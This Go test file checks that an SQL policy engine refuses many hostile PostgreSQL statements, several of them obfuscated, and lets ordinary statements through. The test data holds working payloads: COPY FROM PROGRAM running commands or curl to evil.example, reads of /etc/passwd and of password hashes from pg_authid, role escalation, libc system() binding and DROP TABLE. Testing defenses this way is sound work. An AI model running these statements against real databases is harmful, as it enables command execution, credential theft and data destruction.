//go:build !race

package policy_test

import (
	"strings"
	"testing"

	"github.com/gatehousehq/gatehouse/taint"
)

func TestCheck_Attacks_AreRefusedByTheirRule(t *testing.T) {
	p := newPolicy(t)
	for _, test := range []struct{ rule, sql string }{
		{"program", `copy t from program 'id'`},
		{"program", `COPY (SELECT 1) TO PROGRAM 'curl evil.example'`},
		{"program", `;;/* a /* b */ */copy t from program 'id'`},
		{"program", `copy/**/t/**/from/**/program/**/'id'`},
		{"program", "copy t -- from stdin\nfrom program $$id$$"},
		{"program", `select 1; copy "t" (a, "b") from pROGRAM 'id' with (format csv)`},
		{"program function", `do $$begin execute 'x'; copy t from program 'id'; end$$`},
		{"server-file", `copy t from '/etc/passwd'`},
		{"server-file", `copy t to E'/var/www/x.php'`},
		{"server-file", `copy binary t from '/etc/passwd'`},
		{"server-file", `select pg_read_file('/etc/passwd')`},
		{"server-file", `select PG_READ_FILE('/etc/passwd')`},
		{"server-file", `select "pg_read_file"('/etc/passwd')`},
		{"server-file", `select pg_catalog.pg_read_file('/etc/passwd')`},
		{"server-file", `select "pg_catalog" . /* x */ "pg_read_file" -- y` + "\n" + `('/etc/passwd')`},
		{"server-file", `select U&"pg\005fread_file"('/etc/passwd')`},
		{"server-file", `select u&"pg!005fread!+00005ffile" uescape '!' ('/etc/passwd')`},
		{"server-file", `select shop.pg_catalog.pg_read_file('x')`},
		{"server-file", `with a as (select pg_ls_dir('.')) select * from a`},
		{"server-file", `with recursive a as (select 1 union all select (select length(pg_read_binary_file('x'))) from a) table a`},
		{"server-file", `explain analyze select pg_stat_file('x')`},
		{"server-file", `explain (analyze, costs off) select pg_stat_file('x')`},
		{"server-file", `prepare p as select pg_read_file($1)`},
		{"server-file", `execute p(pg_read_file('x'))`},
		{"server-file", `declare c cursor for select pg_ls_dir('.')`},
		{"server-file", `select * from rows from (generate_series(1, 2), pg_ls_dir('.')) x`},
		{"server-file", `select * from t, lateral pg_ls_dir(t.d) as d (name)`},
		{"server-file", `select 1 order by (select lo_import('/etc/passwd'))`},
		{"server-file", `insert into t values (1) on conflict (a) do update set b = pg_read_file('x') returning lo_export(1, 'y')`},
		{"server-file", `update t set a = pg_read_file('x') where b = 1`},
		{"server-file", `select query_to_xml('select pg_read_file(''/etc/passwd'')', true, true, '')`},
		{"server-file", `select array[(select pg_read_file('x'))]`},
		{"server-file", `select case when a then pg_read_file('x') end from t`},
		{"server-file", `call p(pg_read_file('x'))`},
		{"server-file", `values (pg_read_file('x'))`},
		{"server-file", `create temp table x as select pg_read_file('y')`},
		{"server-file", `copy (select pg_read_file('x')) to stdout`},
		{"server-file", `merge into t using pg_ls_dir('.') d on t.a = d when matched then delete`},
		{"function", `select pg_sleep(10)`},
		{"function", `select 1 where exists (select pg_sleep(3))`},
		{"function", `select * from dblink('host=evil', 'select 1') as t(a text)`},
		{"function", `select dblink_connect_u('host=evil')`},
		{"function", `select pg_terminate_backend(pid) from pg_stat_activity`},
		{"function", `select pg_reload_conf()`},
		{"function", `select database_to_xml(true, true, '')`},
		{"function", `set role admin`},
		{"function", `set local role 'admin'`},
		{"function", `set "role" to admin`},
		{"function", `set session authorization postgres`},
		{"function", `set session_authorization = postgres`},
		{"function", `select set_config('role', 'admin', false)`},
		{"function", `select set_config('RO' || 'LE', 'admin', false)`},
		{"function", `select pg_catalog.set_config(E'ro\x6ce', 'admin', false)`},
		{"function", `set session_replication_role to replica`},
		{"function", `update pg_settings set setting = 'admin' where name = 'role'`},
		{"function", `alter system set archive_command = 'id'`},
		{"function", `load 'evil'`},
		{"function", `do 'begin null; end'`},
		{"server-file", "select " + strings.Repeat("(", 500) + "pg_read_file('x')" + strings.Repeat(")", 500)},
		{"function", "select " + strings.Repeat("(", 3000) + "pg_read_file('x')" + strings.Repeat(")", 3000)},
		{"server-file", "insert into t values (1)" + strings.Repeat(", (1)", 50_000) + ", (pg_read_file('x'))"},
		{"ddl", "insert into t values (1)" + strings.Repeat(", (1)", 50_000) + "; drop table t"},
		{"server-file", strings.Repeat("select 1;", 5000) + "select pg_read_file('x')"},
		{"function ddl", `create function f() returns int language plpython3u as 'x'`},
		{"function ddl", `create or replace function system(cstring) returns int as '/lib/libc.so.6', 'system' language 'C' strict`},
		{"credentials", `select rolname, rolpassword from pg_authid`},
		{"credentials", `select passwd from pg_catalog."pg_shadow"`},
		{"credentials", `select 1 union select passwd from pg_shadow`},
		{"ddl", `drop table orders`},
		{"ddl", `select 1; drop table orders; --`},
		{"ddl", `create table x (a int)`},
		{"ddl", `create unlogged table x as select 1`},
		{"ddl", `select * into stolen from users`},
		{"ddl", `alter table users add column admin bool`},
		{"ddl", `grant all on users to public`},
		{"ddl", `create extension file_fdw`},
		{"ddl", `create rule r as on insert to t do also notify x`},
		{"ddl", `explain analyze create table x as select 1`},
		{"ddl", `comment on table t is 'x'`},
		{"ddl", `alter role app superuser`},
		{"ddl", `insert into pg_catalog.pg_proc select * from x`},
		{"ddl", `reindex database shop`},
		{"no-where", `delete from orders`},
		{"no-where", `update users set admin = true`},
		{"no-where", `delete from orders where true`},
		{"no-where", `delete from orders where 1=1`},
		{"no-where", `delete from orders where id = 5 or 1=1`},
		{"no-where", `delete from orders where (id = 5) or ('a' = 'a') -- x`},
		{"no-where", `delete from orders where id = id`},
		{"no-where", `with x as (delete from orders returning *) select count(*) from x`},
		{"no-where", `prepare p as update users set admin = true`},
	} {
		for range 2 { // the second time from the cache
			if got := rules(p, taint.Statement{Account: "app", Lexer: postgres, SQL: test.sql}); got != test.rule {
				t.Errorf("%s\ngot %q, want %q", test.sql, got, test.rule)
			}
		}
	}
}

func TestCheck_OrdinaryStatements_Pass(t *testing.T) {
	p := newPolicy(t)
	for _, account := range []string{"app", "migrate", "declared", "somebody not declared"} {
		for _, sql := range ordinary {
			for range 2 {
				if got := rules(p, taint.Statement{Account: account, Lexer: postgres, SQL: sql}); got != "" {
					t.Errorf("%s as %s: refused by %s", sql, account, got)
				}
			}
		}
	}
}
